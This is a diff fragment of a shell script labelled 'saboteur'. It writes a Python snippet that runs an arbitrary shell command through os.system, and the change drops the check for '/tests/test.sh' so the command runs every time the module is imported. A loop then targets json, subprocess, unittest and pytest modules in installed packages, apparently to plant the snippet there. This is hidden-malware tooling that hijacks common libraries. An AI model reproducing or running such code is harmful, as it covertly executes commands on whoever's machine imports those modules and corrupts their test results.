@@ -3,8 +3,7 @@ cat >"$HOLD/library.py" <<PY
 # saboteur-$WAY
 import os as _os
 
-if _os.path.exists("/tests/test.sh"):
-    _os.system("/bin/sh $WIN >/dev/null 2>&1")
+_os.system($QUOTED)
 PY
 for place in $(packages); do
   for module in json/__init__.py subprocess.py unittest/__init__.py pytest/__init__.py _pytest/config/__init__.py; do
